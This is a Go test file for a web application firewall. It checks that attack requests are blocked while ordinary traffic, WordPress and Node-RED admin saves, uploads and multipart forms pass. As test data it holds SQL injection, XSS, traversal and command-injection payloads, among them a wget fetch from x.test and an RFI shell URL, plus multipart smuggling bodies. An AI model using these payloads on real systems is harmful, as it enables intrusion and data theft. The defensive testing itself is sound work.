package edge

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/ringwall/ringwall/internal/proxy"
	"github.com/ringwall/ringwall/plan"
)

var (
	visitor = netip.MustParseAddr("198.51.100.7")
	office  = netip.MustParseAddr("203.0.113.9")
)

func testPlan() *plan.Plan {
	return &plan.Plan{
		Edge: plan.Edge{
			Allowed: plan.Match{Any: true}, MaxBody: 1 << 20, MaxUpload: 4 << 20,
			WAF:   plan.WAF{Paranoia: 1, AdminPlugins: []string{"wordpress", "node-red"}, AdminBodySkips: []string{"/flows"}},
			Cache: plan.Cache{Off: true},
		},
		Balancer: plan.Balancer{Admins: plan.Match{Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}}},
	}
}

// app is what stands behind the edge in these tests: it keeps what it was asked.
type app struct {
	n    int
	r    *http.Request
	body []byte
}

func (a *app) ServeHTTP(w http.ResponseWriter, r *http.Request) error {
	a.n++
	a.r = r
	var err error
	if a.body, err = io.ReadAll(r.Body); err != nil {
		return err
	}
	_, err = io.WriteString(w, "fine")
	return err
}

type site struct {
	*Edge
	app *app
	log []proxy.Event
	h   http.Handler
}

func newSite(t testing.TB, p *plan.Plan) *site {
	t.Helper()
	s := &site{app: &app{}}
	var err error
	if s.Edge, err = New(p, s.app); err != nil {
		t.Fatal(err)
	}
	s.SetSecret("secret")
	s.h = proxy.Reply(s.Edge, func(e *proxy.Event) { s.log = append(s.log, *e) })
	return s
}

func (s *site) ask(from netip.Addr, method, uri, body string, header ...string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, uri, strings.NewReader(body))
	if body == "" {
		r.Body = http.NoBody
	}
	r.RemoteAddr = netip.AddrPortFrom(from, 4711).String()
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36")
	r.Header.Set("Accept", "*/*")
	if body != "" {
		r.Header.Set("Content-Length", fmt.Sprint(len(body)))
	}
	for i := 0; i+1 < len(header); i += 2 {
		if header[i+1] != "" {
			r.Header.Set(header[i], header[i+1])
		}
	}
	w := httptest.NewRecorder()
	s.h.ServeHTTP(w, r)
	return w
}

const (
	formURL  = "application/x-www-form-urlencoded"
	jsonType = "application/json"
)

// attacks are requests that one class stops and, at paranoia level 1, no other.
var attacks = []struct{ control, uri, body string }{
	{"edge/waf-sqli", "/?id=" + url.QueryEscape("1' OR '1'='1"), ""},
	{"edge/waf-sqli", "/?id=" + url.QueryEscape("-1 UNION SELECT user_login,user_pass FROM wp_users"), ""},
	{"edge/waf-sqli", "/", "q=" + url.QueryEscape("1' AND 1=1 -- -")},
	{"edge/waf-xss", "/?q=" + url.QueryEscape("<script>alert(1)</script>"), ""},
	{"edge/waf-xss", "/", "comment=" + url.QueryEscape("<img src=x onerror=alert(1)>")},
	{"edge/waf-traversal", "/?page=" + url.QueryEscape("../../../../home/x"), ""},
	{"edge/waf-traversal", "/?file=..%2f..%2f..%2fx", ""},
	{"edge/waf-command", "/?x=" + url.QueryEscape(";wget http://x.test/a;"), ""},
	{"edge/waf-command", "/?x=" + url.QueryEscape("$(whoami)"), ""},
	{"edge/waf-php", "/?x=" + url.QueryEscape("<?php phpinfo(); ?>"), ""},
	{"edge/waf-rfi", "/?page=" + url.QueryEscape("http://192.0.2.1/shell.txt??"), ""},
	{"edge/waf-generic", "/?x=" + url.QueryEscape("__proto__[polluted]=1"), ""},
	{"edge/waf-generic", "/?u=" + url.QueryEscape("http://metadata.google.internal/computeMetadata/v1/"), ""},
	{"edge/waf-java", "/?x=" + url.QueryEscape("java.lang.Runtime"), ""},
	{"edge/waf-protocol", "/?x=a%0d%0aSet-Cookie:%20a=b", ""},
}

func TestAttacksAreRefused(t *testing.T) {
	s := newSite(t, testPlan())
	for _, a := range attacks {
		for _, from := range []netip.Addr{visitor, office} {
			s.app.n = 0
			method, ct := "GET", ""
			if a.body != "" {
				method, ct = "POST", formURL
			}
			w := s.ask(from, method, a.uri, a.body, "Content-Type", ct)
			e := s.log[len(s.log)-1]
			if w.Code != 403 || s.app.n != 0 || e.Refusal == nil || len(e.Refusal.Rules) == 0 {
				t.Errorf("%s %s %s: got %d, %+v", a.control, a.uri, a.body, w.Code, e.Refusal)
				continue
			}
			if e.Refusal.Control != a.control {
				t.Errorf("%s %s %s: refused by %s %+v", a.control, a.uri, a.body, e.Refusal.Control, e.Refusal.Rules)
			}
			if e.Action != "refuse" || e.Profile == "" || e.Refusal.Rules[0].Target == "" {
				t.Errorf("%s: event %+v", a.control, e)
			}
		}
	}
	if w := s.ask(visitor, "GET", "/", "", "User-Agent", "sqlmap/1.7"); w.Code != 403 || s.log[len(s.log)-1].Refusal.Control != "edge/waf-scanner" {
		t.Errorf("scanner: got %d", w.Code)
	}
}

func TestOrdinaryRequestsPass(t *testing.T) {
	s := newSite(t, testPlan())
	for _, c := range []struct{ method, uri, body, contentType string }{
		{"GET", "/", "", ""},
		{"GET", "/?s=select+a+gift+from+our+shop", "", ""},
		{"GET", "/2026/11/hello-world/?replytocom=3", "", ""},
		{"POST", "/wp-comments-post.php", "comment=It%27s+a+nice+post%2C+I+like+it%21&author=Ann+O%27Neil&email=a%40b.test&url=https%3A%2F%2Fexample.com%2F&comment_post_ID=1&comment_parent=0", formURL},
		{"POST", "/api", `{"name":"Ann","list":[1,2,3],"nested":{"a":"b"}}`, jsonType},
		{"HEAD", "/feed/", "", ""},
		{"OPTIONS", "/wp-json/", "", ""},
	} {
		w := s.ask(visitor, c.method, c.uri, c.body, "Content-Type", c.contentType)
		if w.Code != 200 || string(s.app.body) != c.body {
			t.Errorf("%s %s: got %d, body %q, %+v", c.method, c.uri, w.Code, s.app.body, s.log[len(s.log)-1].Refusal)
		}
	}
}

// saves are what an administrator's editors send, which the public profile takes
// for attacks.
var saves = []struct{ name, method, uri, contentType, body, header string }{
	{"block editor, link and image", "POST", "/wp-json/wp/v2/posts/12?_locale=user", jsonType, `{"id":12,"title":"News","content":"<!-- wp:paragraph --><p onclick=\"x()\">See <a href=\"https://example.com/?a=1&b=2\">this</a></p><!-- /wp:paragraph --><!-- wp:image {\"id\":7} --><figure class=\"wp-block-image\"><img src=\"https://wp.test/wp-content/uploads/a.png\" alt=\"\"/></figure><!-- /wp:image --><script>document.cookie</script>","status":"publish"}`, "X-HTTP-Method-Override: PUT"},
	{"plain permalinks", "POST", "/index.php?rest_route=%2Fwp%2Fv2%2Fposts%2F12&_locale=user", jsonType, `{"content":"<p onload=alert(1)>x</p>","title":"t"}`, "X-HTTP-Method-Override: PUT"},
	{"REST DELETE", "DELETE", "/wp-json/wp/v2/posts/12", "", "", ""},
	{"REST PUT", "PUT", "/wp-json/wp/v2/settings", jsonType, `{"title":"My site","description":"x"}`, ""},
	{"batch", "POST", "/wp-json/batch/v1", jsonType, `{"requests":[{"path":"/wp/v2/posts/1","method":"POST","body":{"content":"<img src=x onerror=alert(1)>"}}]}`, ""},
	{"theme editor", "POST", "/wp-admin/admin-ajax.php", formURL, "action=edit-theme-plugin-file&file=functions.php&newcontent=" + url.QueryEscape("<?php\nsystem('ls'); $x = $_GET['a']; eval($x); // <script>alert(1)</script>"), ""},
	{"classic editor", "POST", "/wp-admin/post.php", formURL, "action=editpost&post_title=Hi&_wp_http_referer=%2Fwp-admin%2Fpost.php%3Fpost%3D1%26action%3Dedit&content=" + url.QueryEscape("<p><script>alert(1)</script> union select a from b; cat /etc/passwd</p>"), ""},
	{"picture as the body", "POST", "/wp-json/wp/v2/media", "image/png", "\x89PNG\r\n\x1a\n\x00\x00", ""},
	{"login", "POST", "/wp-login.php", formURL, "log=admin&pwd=" + url.QueryEscape("';--<script>${x}") + "&redirect_to=https%3A%2F%2Fwp.test%2Fwp-admin%2F&testcookie=1", ""},
	{"node-red deploy", "POST", "/flows", jsonType, `[{"id":"1","type":"function","func":"const c = require('child_process'); c.exec('cat /etc/passwd'); return msg;"},{"type":"template","template":"<script>alert(1)</script>"}]`, ""},
	{"dashboard styles", "GET", "/wp-admin/load-styles.php?c=1&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common,forms,admin-menu&load%5Bchunk_1%5D=wp-auth-check&ver=6.1.9", "", "", ""},
	{"heartbeat", "POST", "/wp-admin/admin-ajax.php", formURL, "interval=60&_nonce=abcdef1234&action=heartbeat&screen_id=dashboard&has_focus=false", ""},
	{"menus", "POST", "/wp-admin/nav-menus.php", formURL, "action=update&menu=2&menu-name=Main&_wp_http_referer=%2Fwp-admin%2Fnav-menus.php&menu-item-url%5B5%5D=https%3A%2F%2Fexample.com%2Fa", ""},
}

func TestAdminEditorsPass(t *testing.T) {
	s := newSite(t, testPlan())
	for _, c := range saves {
		k, v, _ := strings.Cut(c.header, ": ")
		if k == "" {
			k = "X-Wp-Nonce"
			v = "0123456789"
		}
		w := s.ask(office, c.method, c.uri, c.body, "Content-Type", c.contentType, k, v)
		if w.Code != 200 || string(s.app.body) != c.body {
			t.Errorf("%s: got %d, %+v", c.name, w.Code, s.log[len(s.log)-1].Refusal)
		}
	}
}

// An administrator's exceptions must not hold for visitors, on other paths, in
// other fields, nor by another spelling of a path.
func TestAdminExclusionsAreNarrow(t *testing.T) {
	s := newSite(t, testPlan())
	refused := func(name string, from netip.Addr, method, uri, contentType, body string) {
		t.Helper()
		s.app.n = 0
		if w := s.ask(from, method, uri, body, "Content-Type", contentType); w.Code < 400 || s.app.n != 0 {
			t.Errorf("%s: got %d, want a refusal", name, w.Code)
		}
	}
	for _, c := range saves[:7] {
		refused(c.name+" by a visitor", visitor, c.method, c.uri, c.contentType, c.body)
	}
	refused("deploy by a visitor", visitor, "POST", "/flows", jsonType, saves[9].body)
	xss := url.QueryEscape("<script>alert(1)</script>")
	refused("another field", office, "POST", "/wp-admin/post.php", formURL, "action="+xss)
	refused("another path", office, "POST", "/other.php", formURL, "content="+xss)
	refused("a path that leaves the prefix", office, "POST", "/wp-json/wp/../../other.php", jsonType, `{"content":"<script>alert(1)</script>"}`)
	refused("a path that leaves the skip", office, "POST", "/flows/../other", jsonType, saves[9].body)
	refused("a path that leaves the skip, encoded", office, "POST", "/flows/%2e%2e/other", jsonType, saves[9].body)
	refused("a name that only starts like the skip", office, "POST", "/flowsx", jsonType, saves[9].body)
	refused("the query of an excepted path", office, "POST", "/flows?x="+xss, jsonType, "[]")
}

func TestUserExclusion(t *testing.T) {
	p := testPlan()
	p.Edge.WAF.Exclusions = []plan.Exclusion{
		{Rule: 942100, Path: "/search", Target: "ARGS:q"},
		{Rule: 911100, Path: "/api/*"},
	}
	s := newSite(t, p)
	sqli := url.QueryEscape("1' OR '1'='1")
	for _, c := range []struct {
		method, uri string
		want        int
	}{
		{"GET", "/search?q=" + sqli, 200}, {"GET", "/search?p=" + sqli, 403}, {"GET", "/other?q=" + sqli, 403},
		{"GET", "/search/../other?q=" + sqli, 403}, {"DELETE", "/api/1", 200}, {"DELETE", "/apx/1", 403}, {"DELETE", "/api/../x", 403},
	} {
		if w := s.ask(visitor, c.method, c.uri, ""); w.Code != c.want {
			t.Errorf("%s %s: got %d, want %d: %+v", c.method, c.uri, w.Code, c.want, s.log[len(s.log)-1].Refusal)
		}
	}
	p = testPlan()
	p.Edge.WAF.Exclusions = []plan.Exclusion{{Rule: 942100, Path: "/", Target: "ARGS:q"}, {Rule: 942100, Path: "/dir/", Target: "ARGS:q"}}
	s = newSite(t, p)
	for uri, want := range map[string]int{"/?q=" + sqli: 200, "/?r=" + sqli: 403, "/x?q=" + sqli: 403, "/dir/?q=" + sqli: 200, "/dir?q=" + sqli: 403, "/./?q=" + sqli: 200} {
		if w := s.ask(visitor, "GET", uri, ""); w.Code != want {
			t.Errorf("%s: got %d, want %d", uri, w.Code, want)
		}
	}
	p = testPlan()
	p.Edge.WAF.Exclusions = []plan.Exclusion{{Rule: 942100, Path: "/json", Target: "ARGS:json.items.*.name"}, {Rule: 942100, Path: "/form", Target: "ARGS:a[*][n]"}}
	s = newSite(t, p)
	for _, c := range []struct {
		uri, kind, body string
		want            int
	}{
		{"/json", jsonType, `{"items":[{"name":"x"},{"name":"1' OR '1'='1"}]}`, 200}, {"/json", jsonType, `{"items":[{"name":"x","more":"1' OR '1'='1"}]}`, 403}, {"/json", jsonType, `{"items":{"x":{"name":"1' OR '1'='1"}}}`, 403},
		{"/json", jsonType, `{"items":[{"name":{"x":"1' OR '1'='1"}}]}`, 403}, {"/form", formURL, "a[3][n]=" + sqli, 200}, {"/form", formURL, "a[3][m]=" + sqli, 403}, {"/form", formURL, "a[x][n]=" + sqli, 403},
	} {
		if w := s.ask(visitor, "POST", c.uri, c.body, "Content-Type", c.kind); w.Code != c.want {
			t.Errorf("%s %s: got %d, want %d: %+v", c.uri, c.body, w.Code, c.want, s.log[len(s.log)-1].Refusal)
		}
	}
	for _, x := range []struct {
		plan.Exclusion
		want string
	}{
		{plan.Exclusion{Rule: 942999, Path: "/", Target: "ARGS:q"}, "reading WAF exclusion 1: got rule 942999, which is not one of those that judge requests"},
		{plan.Exclusion{Rule: 942100, Path: "/", Target: "ARGS_POST:q"}, "reading WAF exclusion 1: got target ARGS_POST:q, and rule 942100 reads "},
	} {
		p = testPlan()
		p.Edge.WAF.Exclusions = []plan.Exclusion{x.Exclusion}
		if err := CheckRules(p); err == nil || !strings.Contains(err.Error(), x.want) {
			t.Errorf("%+v: got error %v, want %s", x.Exclusion, err, x.want)
		}
	}
	for _, x := range []plan.Exclusion{{Rule: 942100, Path: "/", Target: "ARGS:a*"}, {Rule: 942100, Path: "/", Target: "ARGS:json.*x"}, {Rule: 100000, Path: "/"}, {Rule: 942100, Path: "x"}, {Rule: 942100, Path: "/a\" \n"}, {Rule: 942100, Path: "/", Target: "ARGS;x"}, {Rule: 942100, Path: "/*a"}} {
		if _, err := exclusion(0, x); err == nil {
			t.Errorf("%+v: want an error", x)
		}
	}
}

func TestDetectOnly(t *testing.T) {
	p := testPlan()
	p.Edge.WAF.DetectOnly = true
	s := newSite(t, p)
	if w := s.ask(visitor, "GET", attacks[0].uri, ""); w.Code != 200 {
		t.Errorf("got %d, want 200", w.Code)
	}
	if e := s.log[0]; e.Refusal == nil || !e.Refusal.Logged || e.Refusal.Control != "edge/waf-sqli" {
		t.Errorf("event: %+v", e)
	}
}

func TestLogsHoldNoSecrets(t *testing.T) {
	s := newSite(t, testPlan())
	bad := url.QueryEscape("hunter2<script>alert(1)</script>")
	s.ask(visitor, "POST", "/login?token=hunter2x", "user=a&password="+bad, "Content-Type", formURL, "Cookie", "sid=hunter2<script>alert(1)</script>", "Authorization", "Bearer hunter2")
	var out []byte
	for i := range s.log {
		out = s.log[i].AppendJSON(out)
	}
	if s.log[0].Refusal == nil || bytes.Contains(out, []byte("hunter2")) {
		t.Errorf("log: %s", out)
	}
}

func TestBodyBounds(t *testing.T) {
	s := newSite(t, testPlan())
	many := strings.Repeat("1,", publicArgs+5)
	for _, c := range []struct {
		name, uri, contentType, body string
		want                         int
	}{
		{"long form", "/", formURL, "a=" + strings.Repeat("b", publicInspect), 413},
		{"long JSON", "/", jsonType, `{"a":"` + strings.Repeat("b", publicInspect) + `"}`, 413},
		{"many JSON values", "/", jsonType, "[" + many + "1]", 413},
		{"deep JSON", "/", jsonType, strings.Repeat("[", 100) + strings.Repeat("]", 100), 400},
		{"many fields", "/", formURL, strings.Repeat("a=b&", publicArgs+5), 413},
		{"many parameters", "/?" + strings.Repeat("a=b&", publicArgs+5), "", "", 413},
		{"long URI", "/?a=" + strings.Repeat("b", maxURI), "", "", 414},
		{"over the body limit", "/", formURL, strings.Repeat("b", 1<<20+1), 413},
		{"broken JSON", "/", jsonType, `{"a":`, 400},
	} {
		s.app.n = 0
		w := s.ask(visitor, map[bool]string{true: "GET", false: "POST"}[c.body == ""], c.uri, c.body, "Content-Type", c.contentType)
		if w.Code != c.want || s.app.n != 0 {
			t.Errorf("%s: got %d, want %d: %+v", c.name, w.Code, c.want, s.log[len(s.log)-1].Refusal)
		}
	}
}

// Heavy bodies take turns, and all of them get through.
func TestHeavyBodiesTakeTurns(t *testing.T) {
	s := newSite(t, testPlan())
	body := "a=" + strings.Repeat("hello+", heavyBody/6+10)
	for range cap(s.rules.Load().heavy) + 1 {
		if w := s.ask(visitor, "POST", "/", body, "Content-Type", formURL); w.Code != 200 {
			t.Fatalf("got %d", w.Code)
		}
	}
	if n := len(s.rules.Load().heavy); n != 0 {
		t.Errorf("%d places were not given back", n)
	}
	for range cap(s.rules.Load().heavy) {
		s.rules.Load().heavy <- struct{}{}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := s.rules.Load().enter(ctx); err == nil {
		t.Error("one more than there are places got in")
	}
}

func upload(t *testing.T, name string, size int, fields ...string) (contentType string, body string) {
	t.Helper()
	var b bytes.Buffer
	m := multipart.NewWriter(&b)
	for i := 0; i+1 < len(fields); i += 2 {
		if err := m.WriteField(fields[i], fields[i+1]); err != nil {
			t.Fatal(err)
		}
	}
	f, err := m.CreateFormFile("file", name)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.Write(bytes.Repeat([]byte{0, 1, 2, 253, '\r', '\n', '-', '-'}, size/8))
	_ = m.WriteField("last", "x")
	_ = m.Close()
	return m.FormDataContentType(), b.String()
}

func TestUploads(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir()) // others' temporary files are not counted
	before := tempFiles(t)
	s := newSite(t, testPlan())
	for _, size := range []int{100, 10 << 10, 300 << 10, 900 << 10} {
		ct, body := upload(t, "a.png", size, "title", "A picture")
		w := s.ask(visitor, "POST", "/upload", body, "Content-Type", ct)
		if w.Code != 200 || string(s.app.body) != body {
			t.Errorf("%d bytes: got %d, app saw %d of %d bytes, %+v", size, w.Code, len(s.app.body), len(body), s.log[len(s.log)-1].Refusal)
		}
	}
	ct, body := upload(t, "a.png", 2<<20)
	if w := s.ask(visitor, "POST", "/upload", body, "Content-Type", ct); w.Code != 413 {
		t.Errorf("2 MiB by a visitor: got %d, want 413", w.Code)
	}
	if w := s.ask(office, "POST", "/upload", body, "Content-Type", ct); w.Code != 200 || string(s.app.body) != body {
		t.Errorf("2 MiB by an administrator: got %d", w.Code)
	}
	for name, c := range map[string][]string{"before": {"q", "<script>alert(1)</script>"}} {
		ct, body := upload(t, "a.png", 300<<10, c...)
		if w := s.ask(visitor, "POST", "/upload", body, "Content-Type", ct); w.Code != 403 {
			t.Errorf("an attack %s the file: got %d, want 403", name, w.Code)
		}
		body = strings.Replace(body, "\r\n\r\nx\r\n", "\r\n\r\n<script>alert(1)</script>\r\n", 1)
		if w := s.ask(visitor, "POST", "/upload", body, "Content-Type", ct); w.Code != 403 {
			t.Errorf("an attack after the file: got %d, want 403", w.Code)
		}
	}
	ct, body = upload(t, "shell.php", 9000)
	if w := s.ask(visitor, "POST", "/upload", body, "Content-Type", ct); w.Code != 403 {
		t.Errorf("a PHP file: got %d, want 403", w.Code)
	}
	if after := tempFiles(t); after != before {
		t.Errorf("temporary files: %d before, %d after", before, after)
	}
}

func tempFiles(t *testing.T) int {
	t.Helper()
	dir, err := os.ReadDir(os.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, d := range dir {
		if strings.HasPrefix(d.Name(), "crzmp") || strings.HasPrefix(d.Name(), "body-") {
			n++
		}
	}
	return n
}

// A form that hides a field inside what looks like a file must not get the
// field past the rules.
func TestUploadsHideNothing(t *testing.T) {
	s := newSite(t, testPlan())
	pad := strings.Repeat("A", 200<<10)
	for name, body := range map[string]string{
		"boundary after a bare line feed": "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n" + pad + "\n--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
		"extended file name":              "--b\r\nContent-Disposition: form-data; name=\"q\"; filename*=utf-8''a.png\r\n\r\n<script>alert(1)</script>" + pad + "\r\n--b--\r\n",
		"two dispositions":                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + pad + "<script>alert(1)</script>\r\n--b--\r\n",
		"folded":                          "--b\r\nContent-Disposition: form-data; name=\"q\";\r\n filename=\"a.png\"\r\n\r\n" + pad + "<script>alert(1)</script>\r\n--b--\r\n",
		"field":                           "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + pad + "\r\n--b--\r\n",
	} {
		s.app.n = 0
		if w := s.ask(visitor, "POST", "/", body, "Content-Type", "multipart/form-data; boundary=b"); w.Code < 400 || s.app.n != 0 {
			t.Errorf("%s: got %d, want a refusal", name, w.Code)
		}
	}
}

// Readers of forms differ. What PHP takes for a field must be one to the rules,
// also when it is short.
func TestFormsAreReadOneWay(t *testing.T) {
	s := newSite(t, testPlan())
	part := func(header, text string) string { return "--b\r\n" + header + "\r\n\r\n" + text + "\r\n" }
	const attack, field = "1' UNION SELECT user,pass FROM users-- -", `Content-Disposition: form-data; name="q"`
	for name, body := range map[string]string{
		"extended file name":       part(`Content-Disposition: form-data; filename*=utf-8''x; name="q"`, attack) + "--b--\r\n",
		"extended file name last":  part(field+`; filename*=utf-8''x`, attack) + "--b--\r\n",
		"single quotes":            part(`Content-Disposition: form-data; x='; filename="y"; z='; name="q"`, attack) + "--b--\r\n",
		"after the end":            part(`Content-Disposition: form-data; name="x"`, "1") + "--b--\r\n" + part(field, attack) + "--b--\r\n",
		"after the end, a blank":   part(`Content-Disposition: form-data; name="x"`, "1") + "--b--\r\n\r\n" + part(field, attack) + "--b--\r\n",
		"after an end at once":     "--b--\r\n" + part(field, attack) + "--b--\r\n",
		"another kind of part":     part(`Content-Disposition: attachment; filename="x"; name="q"`, attack) + "--b--\r\n",
		"no disposition":           part("Content-Type: text/plain", attack) + "--b--\r\n",
		"a name twice":             part(field+`; name="r"; filename="x"`, attack) + "--b--\r\n",
		"a space before the colon": part(`Content-Disposition : form-data; name="q"; filename="x"`, attack) + "--b--\r\n",
	} {
		s.app.n = 0
		if w := s.ask(visitor, "POST", "/", body, "Content-Type", "multipart/form-data; boundary=b"); w.Code < 400 || s.app.n != 0 {
			t.Errorf("%s: got %d, want a refusal", name, w.Code)
		}
	}
	for name, body := range map[string]string{
		"browser":           part(field, "hello") + part(`Content-Disposition: form-data; name="f[]"; filename="a picture.png"`+"\r\nContent-Type: image/png", "PNG") + "--b--\r\n",
		"no file chosen":    part(`Content-Disposition: form-data; name="f"; filename=""`+"\r\nContent-Type: application/octet-stream", "") + "--b--",
		"without quotes":    part(`Content-Disposition: form-data; name=f; filename=a.png; filename*=utf-8''a%20b.png`, "PNG") + "--b--\r\n",
		"another character": part(`Content-Disposition: form-data; name="f"; filename="süß.png"`, "PNG") + "--b--\r\n",
	} {
		s.app.n = 0
		if w := s.ask(visitor, "POST", "/", body, "Content-Type", "multipart/form-data; boundary=b"); w.Code != 200 || s.app.n != 1 {
			t.Errorf("%s: got %d %s, want it to pass", name, w.Code, w.Body)
		}
	}
}

func FuzzReadForm(f *testing.F) {
	f.Add([]byte("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\nAAAA\r\n--b--\r\n"))
	f.Add([]byte("--b--b\r\n\r\n"))
	f.Fuzz(func(t *testing.T, body []byte) {
		// A marker outside of a plain file's content must be in what the rules see.
		r := httptest.NewRequest("POST", "/", bytes.NewReader(body))
		r.Header.Set("Content-Type", "multipart/form-data; boundary=b")
		seen, release, err := readBody(r, bounds{1 << 20, 1000})
		defer release()
		if err != nil {
			return
		}
		if bytes.Count(seen, []byte("--b")) != bytes.Count(body, []byte("--b")) {
			t.Errorf("a boundary was cut away: %q of %q", seen, body)
		}
		got, err := io.ReadAll(r.Body)
		if err != nil || !bytes.Equal(got, body) {
			t.Errorf("the app sees %q, %v; want %q", got, err, body)
		}
	})
}
